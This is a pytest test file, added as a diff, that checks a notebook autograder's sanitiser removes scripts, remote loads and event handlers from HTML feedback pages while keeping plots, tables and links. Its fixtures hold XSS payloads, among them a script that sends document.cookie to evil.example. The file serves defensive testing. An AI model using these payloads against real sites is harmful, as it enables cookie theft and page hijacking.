@@ -1,0 +1,138 @@
+"""The feedback page is sanitised: nothing on it runs or loads, and the course's rendering
+(text, code, tables, embedded plots, in-page links) stays."""
+
+from __future__ import annotations
+
+import base64
+import io
+import re
+
+import matplotlib
+import nbformat
+import pytest
+
+from autograder.course import course_config
+from autograder.pipeline.feedback import FeedbackExporter, sanitise_page
+
+matplotlib.use("Agg")
+
+HOSTILE_MARKDOWN = """# Results <script>fetch("https://evil.example/" + document.cookie)</script>
+
+<img src=x onerror="fetch('https://evil.example/onerror')">
+<img src="https://evil.example/track.png" alt="remote">
+![also remote](http://evil.example/md.png)
+<iframe src="https://evil.example/frame"></iframe>
+<object data="https://evil.example/o.swf"></object><embed src="https://evil.example/e.swf">
+<form action="https://evil.example/post"><input name="x"></form>
+<p style="color: red; background-image: url(https://evil.example/bg.png)">styled</p>
+<style>body { background: url(https://evil.example/css.png) }</style>
+<link rel="stylesheet" href="https://evil.example/sheet.css">
+<meta http-equiv="refresh" content="0; url=https://evil.example/">
+<base href="https://evil.example/">
+<svg><image href="https://evil.example/svg.png"/></svg>
+<a href="javascript:alert(1)">js link</a> <a href="https://example.org/docs">docs</a>
+<a href="#ch02_softmax_test">to the test</a> <p onclick="alert(2)">click</p>
+"""
+
+
+def png_output() -> nbformat.NotebookNode:
+    """A display_data output holding a real matplotlib PNG, as the inline backend stores it."""
+    import matplotlib.pyplot as plt
+
+    figure, axes = plt.subplots(figsize=(2, 2))
+    axes.plot([0, 1], [1, 0])
+    buffer = io.BytesIO()
+    figure.savefig(buffer, format="png")
+    plt.close(figure)
+    return nbformat.v4.new_output("display_data", data={
+        "image/png": base64.b64encode(buffer.getvalue()).decode(), "text/plain": "<Figure>"})
+
+
+def hostile_notebook() -> nbformat.NotebookNode:
+    nb = nbformat.v4.new_notebook()
+    code = nbformat.v4.new_code_cell("x = 1")
+    code.outputs = [
+        png_output(),
+        nbformat.v4.new_output("display_data", data={
+            "text/html": "<table><tr><td>cell</td></tr></table><script>alert(3)</script>"
+                         "<img src='https://evil.example/out.png'>",
+            "text/plain": "table"}),
+        nbformat.v4.new_output("display_data", data={
+            "application/javascript": "fetch('https://evil.example/js')", "text/plain": "js"}),
+    ]
+    nb.cells = [nbformat.v4.new_markdown_cell(HOSTILE_MARKDOWN), code]
+    return nb
+
+
+def assert_inert(html: str) -> None:
+    """Nothing that runs and nothing loaded from elsewhere. The head holds the template's own
+    style sheets (whose CSS may mention ``javascript:`` in a selector); it has no script and
+    no link either."""
+    head, _, body = html.partition("</head>")
+    assert "<script" not in head.lower() and "<link" not in head.lower()
+    # The template's CSS names its fonts relative to the page; nothing points elsewhere.
+    for url in re.findall(r"url\(\s*['\"]?([^)'\"]*)", head):
+        assert url.startswith(("../", "data:image/")), url
+    assert "url(" not in body
+    lowered = body.lower()
+    for needle in ("<script", "<iframe", "<object", "<embed", "<form", "<link", "<base",
+                   "<meta http-equiv", "javascript:", "<svg", "<input"):
+        assert needle not in lowered, needle
+    assert not re.search(r"<[^>]*\son\w+\s*=", body), "an event handler survived"
+    for match in re.finditer(r"""\s(?:src|href|data|action)\s*=\s*["']?([^"'\s>]+)""", body):
+        url = match.group(1)
+        assert url.startswith(("data:image/", "#")) or (
+            match.group(0).lstrip().startswith("href") and url.startswith("https://example.org")
+        ), match.group(0)
+
+
+def test_sanitise_page_removes_what_runs_or_loads_and_keeps_the_rest():
+    page = ("<!DOCTYPE html><html><head><meta charset='utf-8'><title>ch02</title>"
+            "<style>.score { color: black }</style>"
+            "<script src='https://cdn.example/mathjax.js'></script></head><body>"
+            + HOSTILE_MARKDOWN + "</body></html>")
+    html = sanitise_page(page)
+    assert_inert(html)
+    assert "<title>ch02</title>" in html and ".score { color: black }" in html
+    assert '<p style="color:red">styled</p>' in html
+    assert 'href="https://example.org/docs"' in html and 'href="#ch02_softmax_test"' in html
+    assert "Results" in html and "click" in html
+
+
+def test_exported_page_keeps_plots_tables_and_code_but_nothing_hostile():
+    exporter = FeedbackExporter(template_name="classic")
+    html, _ = exporter.from_notebook_node(hostile_notebook())
+    assert_inert(html)
+    assert re.search(r'<img[^>]+src="data:image/png;base64,[A-Za-z0-9+/=]{100,}"', html)
+    assert "<td>cell</td>" in html and "x" in html and 'class="highlight' in html
+
+
+def test_nbgraders_feedback_uses_the_sanitising_exporter(tmp_path):
+    config = course_config(tmp_path, tmp_path / "course")
+    assert config.GenerateFeedback.exporter_class == (
+        "autograder.pipeline.feedback.FeedbackExporter")
+    from nbgrader.converters import GenerateFeedback
+    from nbgrader.coursedir import CourseDirectory
+
+    converter = GenerateFeedback(coursedir=CourseDirectory(config=config), config=config)
+    assert converter.exporter_class is FeedbackExporter
+
+
+def test_the_page_does_not_depend_on_how_the_kernel_split_its_prints():
+    """The kernel may send two prints as one stream message or as two, as timing decides."""
+    pages = []
+    for texts in (["visible checks: all passed.\n", "hidden checks: all passed.\n"],
+                  ["visible checks: all passed.\nhidden checks: all passed.\n"]):
+        nb = nbformat.v4.new_notebook()
+        cell = nbformat.v4.new_code_cell("check()", id="c1")
+        cell.outputs = [nbformat.v4.new_output("stream", name="stdout", text=t) for t in texts]
+        nb.cells = [cell]
+        pages.append(FeedbackExporter(template_name="classic").from_notebook_node(nb)[0])
+    assert pages[0] == pages[1] and "hidden checks: all passed." in pages[0]
+
+
+@pytest.mark.parametrize("fragment", ["", "plain text", "<p>unclosed", "</head>twice</head>"])
+def test_odd_pages_still_give_a_whole_document(fragment):
+    html = sanitise_page(fragment)
+    assert html.startswith("<!DOCTYPE html>") and html.rstrip().endswith("</html>")
+    assert_inert(html)
